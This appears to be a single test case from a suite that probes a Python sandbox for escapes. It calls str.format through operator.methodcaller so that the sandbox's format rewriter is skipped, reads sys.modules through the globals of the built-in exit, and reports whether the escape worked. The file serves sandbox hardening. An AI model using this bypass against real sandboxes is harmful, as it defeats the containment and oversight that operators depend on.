# technique: operator.methodcaller('format', exit) applied to a run-time template calls str.format from C, so no attribute call reaches the format rewriter; reads __init__.__globals__[sys].modules as text
# configs: default, common
# 032 covers the same call under default and stdlib *; this one runs with a realistic allowlist.
# With nothing allowed `import operator` is refused.
import operator
u = '_' * 2
tpl = '{0.' + u + 'init' + u + '.' + u + 'globals' + u + '[sys].modules}'
text = operator.methodcaller('format', exit)(tpl)
if "<module 'sys'" in text:
    return [{'json': {'escaped': text[:300]}}]
return [{'json': {'result': text[:300]}}]
